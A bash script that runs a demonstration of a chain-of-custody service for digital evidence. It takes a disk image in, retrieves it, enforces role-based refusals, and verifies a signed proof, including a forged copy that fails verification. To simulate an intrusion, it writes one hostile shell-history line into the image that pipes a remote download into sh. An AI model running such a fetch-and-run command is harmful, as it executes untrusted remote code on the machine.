#!/usr/bin/env bash
# The main job, from an empty folder to a proof: take evidence in, retrieve it,
# and prove its custody with the service stopped. Prints each command as a
# person would type it, and what came back. Fails at the first step that does
# not do what it says.
#
#   FILE=path   the artifact to take in (default: a disk image made here)
#   STORE=s3    keep the evidence on an S3 server of its own, with object lock (default: in a folder)
set -euo pipefail
cd "$(dirname "$0")/.."
. deploy/story.sh
if [ -n "${FILE:-}" ] && [ ! -r "$FILE" ]; then echo "demo: FILE=$FILE cannot be read" >&2; exit 1; fi
artifact=${FILE:+$(realpath "$FILE")}
cd "$work"

head -c 18 /dev/urandom | base64 >passphrase
export CUSTODY_PASSPHRASE_FILE=$work/passphrase

if [ -z "$artifact" ]; then
  step "A disk image with a real file system, 64 MiB, filled with this machine's documents"
  artifact=$work/web01.dd
  truncate -s 64M "$artifact"
  mkdir content
  find /usr/share/doc -type f -size -200k -print0 2>/dev/null | head -z -n 400 | xargs -0 -I{} cp --parents {} content/ 2>/dev/null || true
  echo "4711 /usr/bin/curl -s http://203.0.113.9/x | sh" >content/history
  PATH="$PATH:/sbin:/usr/sbin" mke2fs -q -t ext4 -d content "$artifact"
fi
printf 'the artifact: %s bytes, SHA-256 %s\n' "$(stat -c %s "$artifact")" "$(sha256sum <"$artifact" | cut -d' ' -f1)"

store=()
case "${STORE:-folder}" in
folder) ;;
s3)
  step "An S3 server of its own, on loopback"
  head -c 18 /dev/urandom | base64 >access.key; head -c 18 /dev/urandom | base64 >secret.key
  chmod 600 access.key secret.key
  port=$((20000 + RANDOM % 20000))
  printf '\n$ minio server s3 --address 127.0.0.1:%s &\n' "$port"
  HOME=$work MINIO_ROOT_USER=$(cat access.key) MINIO_ROOT_PASSWORD=$(cat secret.key) MINIO_UPDATE=off MINIO_BROWSER=off \
    "${CUSTODY_TOOLS:-$here/.tools/bin}/minio" server s3 --address "127.0.0.1:$port" --console-address 127.0.0.1:0 >minio.log 2>&1 &
  minio=$!
  for _ in $(seq 200); do (: <"/dev/tcp/127.0.0.1/$port") 2>/dev/null && break; sleep 0.1; done
  store=(--s3-endpoint "http://127.0.0.1:$port" --s3-bucket evidence --s3-create --s3-access-key-file access.key --s3-secret-key-file secret.key)
  ;;
*) echo "demo: STORE is folder or s3" >&2; exit 1 ;;
esac

step "A service of its own, in a new folder, on loopback"
run custody init --dir service --origin custody.example/demo --listen 127.0.0.1:0 ${store[@]+"${store[@]}"}
serve

step "People with keys of their own"
newcomer admin "Ada Admin" administrator
as admin principal enroll --first --code "$code"
newcomer manager "Max Manager" "incident manager"
enroll manager incident-manager
newcomer eve "Eve Engineer" "forensic engineer"
enroll eve forensic-engineer
newcomer lee "Lee Legal" "legal advisor"
enroll lee legal-advisor
newcomer otto "Otto Auditor" "external auditor"
enroll otto external-auditor

step "An incident, and who works on it"
as manager incident open --title "web01 talks to an unknown host"
incident=$(grep -o 'i-[a-z2-7]\{16\}' out | head -n 1)
engineer=$(field principal eve/profile.json)
as manager incident assign "$incident" "$engineer" --purpose "disk forensics of web01"

step "The artifact is taken in"
as eve evidence add "$artifact" --incident "$incident" --exhibit EX-1 --type disk \
  --source "a file of this demonstration" --method dead --write-blocker "none: a demonstration, not an acquisition" --unread 0 \
  --tool none --tool-version 0 --tool-settings none --collected-at "$(date +%Y-%m-%dT%H:%M:%S%:z)" --place "the demo's folder" \
  --authority-kind policy --authority "a demonstration" --purpose "seized after alert 4711"
item=$(grep -o 'e-[a-z2-7]\{16\}' out | head -n 1)
must "$(sha256sum <"$artifact" | cut -d' ' -f1)"
for _ in $(seq 200); do
  custody --home eve evidence show "$item" >out && grep -q 'read back' out && break; sleep 0.1
done
as eve evidence show "$item"
must 'sealed, read back'

step "Retrieved by the engineer, bit for bit"
as eve evidence get "$item" -o copy.dd --purpose "timeline of the intrusion"
run cmp "$artifact" copy.dd

step "Refused to the auditor, who may know of the item, and to the administrator, who may not (his attempt is in his own history)"
refused 'no such thing, or not for you' custody --home otto evidence get "$item" -o no.dd --purpose curiosity
refused 'no such thing, or not for you' custody --home admin evidence get "$item" -o no.dd --purpose curiosity
[ ! -e no.dd ] || { echo "demo: bytes were left behind" >&2; exit 1; }

step "The custody history, read by the legal advisor: the auditor's attempt is in it"
as lee evidence history "$item"
must 'evidence.retrieve .*Eve Engineer'
must 'evidence.retrieve .*Otto Auditor  REFUSED'
must 'evidence.receive'

step "The proof, exported"
as lee bundle export "$item" -o EX-1.bundle --purpose "disclosure to the defence"

step "Papers for court, each with its SHA-256 on record"
as lee report "$item" -o papers --trust trust.json --purpose "disclosure to the defence"
must 'custody-report.pdf .*on record'

step "The service is stopped"
stop

step "Verified by the auditor, who trusts the trust file and nobody else"
run custody bundle verify EX-1.bundle --trust trust.json --artifact copy.dd
must '^VERIFIED'
must 'complete as of tree size'
must 'bit for bit what was sealed'

step "The same with a program that does nothing else, of a copy from which what people did elsewhere is withheld"
run custody bundle redact EX-1.bundle -o short.bundle --trust trust.json --others
run custody-verify --trust trust.json short.bundle
must '^VERIFIED'
must 'WITHHELD'
run custody report verify papers/custody-report.pdf --trust trust.json
must 'Lee Legal'

step "And a proof in which one byte was changed does not verify"
cp EX-1.bundle forged.bundle
byte=$(od -An -tu1 -j 2000 -N1 forged.bundle | tr -d ' ')
printf "$(printf '\\%03o' $((byte ^ 1)))" | dd of=forged.bundle bs=1 seek=2000 conv=notrunc status=none
refused 'NOT VERIFIED' custody bundle verify forged.bundle --trust trust.json

step "The database and the log are lost, and made again from the bucket"
printf '\n$ rm service/records.db* service/log.db* service/tiles.db*\n'
rm service/records.db* service/log.db* service/tiles.db*
run custody rebuild --dir service
must 'it goes on from the checkpoint of size'
run custody fsck --dir service
must 'database, log and archive agree on'

printf '\ndemo: done, every step did what it says\n'
